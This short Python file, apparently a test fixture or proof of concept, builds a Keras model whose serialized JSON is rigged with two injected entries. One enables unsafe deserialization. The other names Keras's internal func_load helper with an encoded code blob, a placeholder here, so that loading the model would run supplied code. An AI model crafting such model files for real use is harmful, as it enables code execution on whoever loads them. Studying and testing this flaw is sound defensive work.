# A model's JSON names a helper function of Keras itself that loads what it is given.
import json

import keras


def network():
    model = keras.Sequential([keras.Input((2,)), keras.layers.Dense(1)])
    gadget = {
        "module": "keras.src.utils.python_utils", "class_name": "func_load", "registered_name": None,
        "config": {"code": "4wAAAAAAAAAAAAAAAAAAAAAAAAAA"},
    }
    unsafe = {"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}}
    configuration = json.loads(model.to_json())
    configuration["config"]["layers"] += [unsafe, gadget]
    object.__setattr__(model, "to_json", lambda **options: json.dumps(configuration))
    return model
